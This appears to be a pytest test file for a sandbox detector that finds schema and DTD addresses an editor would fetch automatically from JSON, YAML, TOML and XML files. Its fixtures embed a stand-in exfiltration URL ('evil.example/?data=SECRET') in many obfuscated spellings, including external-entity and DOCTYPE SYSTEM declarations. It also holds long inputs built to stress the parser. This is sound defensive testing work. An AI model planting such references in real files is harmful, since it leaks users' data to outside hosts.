"""An address that an editor would ask for by itself is found in each spelling that its format allows, and only that."""

from __future__ import annotations

import pytest

from conduit.sandbox.fetched import fetched_addresses

EVIL = "https://evil.example/?data=SECRET"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", f'{{"$schema": "{EVIL}"}}'),
        ("a.json", f'\ufeff{{\r\n "$schema"\r\n:\r\n"{EVIL}"}}'),
        ("a.JSON", f'{{"\\u0024schema": "{EVIL}"}}'),
        ("a.json", '{"$schema": "https:\\/\\/evil.example\\/?data=SECRET"}'),
        ("a.json", '{"$schema": "\\u0068ttps://evil.example/?data=SECRET"}'),
        ("a.jsonc", f'// settings\n{{"$schema" /* here */ : // and\n "{EVIL}"}}'),
        ("a.json5", f"{{$schema: '{EVIL}'}}"),
        ("a.json", f'{{"a": "b // c", "$schema": "{EVIL}"}}'),
        ("schema.json", f'{{"items": {{"$ref": "{EVIL}"}}}}'),
        ("schema.json", f'{{"$dynamicRef":"{EVIL}"}}'),
        (".prettierrc", f'{{"$schema": "{EVIL}"}}'),
        ("no_ending", f'\n\n[{{"$schema": "{EVIL}"}}]'),
        ("a.yaml", f"# yaml-language-server: $schema={EVIL}\na: 1\n"),
        ("a.yml", f"a: 1\n  #  yaml-language-server : $schema: {EVIL}\n"),
        ("a.yml", f"# $schema: {EVIL}\n"),
        ("a.yaml", f"$schema: {EVIL}\n"),
        ("a.yaml", f'"\\x24schema": !!str &here "{EVIL}"\n'),
        ("a.yaml", f"$schema: >-\n  {EVIL}\n"),
        ("a.yaml", f"$schema: # see below\n  {EVIL}\n"),
        ("a.yaml", f"? $schema\n: {EVIL}\n"),
        ("a.toml", f"#:schema {EVIL}\na = 1\n"),
        ("a.toml", f'"$schema" = "{EVIL}"\n'),
        ("a.xml", f'<a xsi:noNamespaceSchemaLocation="{EVIL}"/>'),
        ("a.xml", f"<a xsi:schemaLocation='http://names.example/one {EVIL}'/>"),
        ("a.xsd", f'<xs:schema><xs:import schemaLocation="{EVIL}"/></xs:schema>'),
        ("a.xml", '<a xsi:noNamespaceSchemaLocation="&#104;ttps://evil.example/?data=SECRET"/>'),
        ("a.xml", f'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "{EVIL}">\n<a/>'),
        ("a.svg", f'<!DOCTYPE a PUBLIC "-//X//Y" \n "{EVIL}">'),
        ("a.xml", f'<!DOCTYPE a [<!ENTITY % b SYSTEM "{EVIL}"> %b;]><a/>'),
        ("a.xml", f'<?xml-model href="{EVIL}"?><a/>'),
        ("a.xml", f"<?xml-stylesheet type='text/xsl' href = '{EVIL}'?><a/>"),
    ],
)
def test_an_address_is_found(name: str, text: str) -> None:
    assert fetched_addresses(name, text) == {EVIL}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", f'{{"$schema" "{EVIL}"}}'),
        ("a.json", f'{{$schema "{EVIL}"}}'),
        ("a.json", f'{{"$schema"/* : */"{EVIL}"}}'),
        ("a.json", f'{{"$schema": // here\r"{EVIL}"}}'),
        ("schema.json", f'{{"items": {{"$schema": "\\n{EVIL}"}}}}'),
        ("schema.json", f'{{"items": {{"$schema": "\ufeff{EVIL}"}}}}'),
        ("schema.json", f'{{"$schema": {{"$id": "{EVIL}"}}}}'),
        ("schema.yaml", f'$schema:\n  "$id": {EVIL}\n'),
        ("schema.json", f'{{"$id": "{EVIL}", "items": {{"$ref": "one.json"}}}}'),
        ("schema.md", f'{{"$ref": "{EVIL}"}}'),
        ("a.yaml", f"<<: {{a: 1}}\n$schema: {EVIL}\n"),
        ("a.yaml", f"a: &one !!str '{EVIL}'\n$schema: *one\n"),
        ("a.yaml", f"--- # yaml-language-server: $schema={EVIL}\na: 1\n"),
        ("a.yaml", f"a: 1 # yaml-language-server: $schema={EVIL}\n"),
        ("a.yaml", f"# yaml-language-server: $schema:\u00a0{EVIL}\n"),
        ("a.yaml", f"# yaml-language-server: $schema:\ufeff{EVIL}\n"),
        ("a.yaml", f'$schema: "\\\n  {EVIL}"\n'),
        ("a.yaml", f'$schema: "{EVIL[:3]}\\\n  {EVIL[3:]}"\n'),
        ("a.yaml", f'? "$sch\\\n  ema"\n: {EVIL}\n'),
        ("a.yaml", f"$schema: !a' {EVIL}\n"),
        ("a.yaml", f'$schema: !!str"{EVIL}"\n'),
        ("a.yaml", f"$schema: !<tag:a,b> {EVIL}\n"),
        (".clang-format", f"$schema: {EVIL}\n"),
        ("a.txt", f"$schema: {EVIL}\n# vim: set ft=yaml :\n"),
        ("a.py", f"# -*- mode: yaml -*-\n$schema: {EVIL}\n"),
        ("a.toml", f'"$schema" = """\\\n  {EVIL}"""\n'),
        ("a.toml", f"#:schema\u00a0{EVIL}\n"),
        ("a.xml", f'<?xml-model title="a > b [" href="{EVIL}"?><a/>'),
        ("a.xml", f'<!DOCTYPE a PUBLIC "[>" "{EVIL}"><a/>'),
        ("a.xml", f'<!DOCTYPE a [<!ATTLIST a x:noNamespaceSchemaLocation CDATA #FIXED "{EVIL}">]><a/>'),
        ("a.xml", f'text<a x:noNamespaceSchemaLocation="{EVIL}"/>'),
        ("a.xml", f'<a xsi:schemaLocation="urn:it\'s {EVIL}"/>'),
        ("a.xml", f'<a xsi:schemaLocation="urn:a&quot; {EVIL}"/>'),
        ("a.xml", f'<a xsi:schemaLocation="urn:a\u00a0b {EVIL}"/>'),
        ("a.xml", f'<a xsi:noNamespaceSchemaLocation="&#{"0" * 5000}104;{EVIL[1:]}"/>'),
        ("a.rng", f'<grammar><include a=">" href="{EVIL}"/></grammar>'),
    ],
)
def test_an_address_is_found_where_a_server_forgives_what_is_wrong_or_rare(name: str, text: str) -> None:
    assert fetched_addresses(name, text) == {EVIL}


def test_an_address_that_is_made_of_parts_is_found() -> None:
    made = '<!DOCTYPE a [<!ENTITY b "https://evil.example/">]><a xsi:noNamespaceSchemaLocation="&b;SECRET"/>'
    assert fetched_addresses("a.xml", made) == {"&b;SECRET"}
    assert fetched_addresses("a.json", '{"$ref": "https%3A%2F%2Fevil.example"}') == {"https%3A%2F%2Fevil.example"}


def test_half_a_pair_and_a_number_that_is_too_high_are_left_as_they_are_spelled() -> None:
    assert fetched_addresses("a.json", '{"$schema": "https://a.example/\\ud800"}') == {"https://a.example/\\ud800"}
    place = f"https://a.example/&#{'9' * 5000};"
    assert fetched_addresses("a.xml", f'<a xsi:noNamespaceSchemaLocation="{place}"/>') == {place}


@pytest.mark.parametrize(
    "address",
    [
        *("http://a.example/x", "HTTPS://A.example", "ftp://a.example", "//a.example/share", "\\\\a.example\\share"),
        *(
            "file://a.example/share",
            "file:////a.example/share",
            "file:///\\a.example/share",
            "file:///%5Ca.example/share",
            "vscode-remote://a/b",
            "https://json-schema.org@a.example/x",
        ),
        *(
            "https://json-schema.org/?x=SECRET",
            "https://json-schema.org.a.example/x",
            "https://json-schema.org\\@a.example/",
        ),
    ],
)
def test_an_address_elsewhere_is_remote(address: str) -> None:
    escaped = address.replace("\\", "\\\\")
    found = fetched_addresses("a.yaml", f"# yaml-language-server: $schema={address}\n")
    assert found == {address}
    assert fetched_addresses("a.json", f'{{"$schema": "{escaped}"}}')


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", None),
        ("a.json", ""),
        ("a.json", '{"$schema": "./schema.json", "$ref": "#/definitions/a"}'),
        ("a.json", '{"$schema": "file:///opt/schemas/one.json"}'),
        ("a.json", '{"$schema": "c:\\\\schemas\\\\one.json"}'),
        ("a.json", f'{{"$schema": "./one.json", "id": "{EVIL}"}}'),
        ("schema.json", f'{{"$id": "{EVIL}", "$ref": "#/definitions/a"}}'),
        ("README.md", f'[![badge](x)](y)\n```json\n{{"$schema": "{EVIL}"}}\n```\n'),
        ("README.md", f'<p>x</p>\n<a xsi:noNamespaceSchemaLocation="{EVIL}"/>\n'),
        ("README.md", f"# $schema: {EVIL}\n"),
        ("a.json", '{"$schema": "vscode://schemas/settings/folder", "$id": "urn:a:b"}'),
        ("a.json", '{"$schema": "https://json-schema.org/draft/2020-12/schema"}'),
        ("a.json", '{"$schema": "http://json-schema.org/draft-07/schema#"}'),
        ("a.json", f'{{"schema": "{EVIL}", "my$schema": "{EVIL}", "homepage": "{EVIL}"}}'),
        ("a.py", f'SCHEMA = {{"$schema": "{EVIL}"}}\n'),
        ("notes.md", f'```json\n{{"$schema": "{EVIL}"}}\n```\n'),
        ("a.ts", f"const $schema = '{EVIL}';\n"),
        ("a.xml", '<a xmlns="http://names.example/one" schemaLocation="a.xsd"/>'),
        ("a.xml", '<a xsi:schemaLocation="http://names.example/one one.xsd http://names.example/two two.xsd"/>'),
        (
            "a.html",
            '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://other.example/strict.dtd"><link href="x">',
        ),
        ("a.svg", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
    ],
)
def test_other_text_names_none(name: str, text: str | None) -> None:
    assert fetched_addresses(name, text) == frozenset()


@pytest.mark.parametrize(
    "part",
    [
        "$schema #",
        '"$schema":',
        "$ref: &a ",
        "&a ",
        "<!DOCTYPE ",
        "<?xml-model ",
        "/*",
        "// \n",
        '<!DOCTYPE a PUBLIC "',
        "# $schema",
        "\\u00",
        "$ref: !$ref: ",
        "$schema: *a &a ",
        "$ref: x id: ",
        "&#9",
        "<include ",
        "schemaLocation CDATA ",
        "\\\n ",
        "$ref: \\n",
    ],
)
def test_a_long_hostile_text_is_judged_in_time_that_grows_with_its_length(part: str) -> None:
    for name, begin in (("a.json", "{"), ("a.xml", "<"), ("a.yaml", "$schema: ")):
        assert fetched_addresses(name, begin + part * (400_000 // len(part))) is not None
        assert fetched_addresses(name, begin + part * (400_000 // len(part)) + '"') is not None
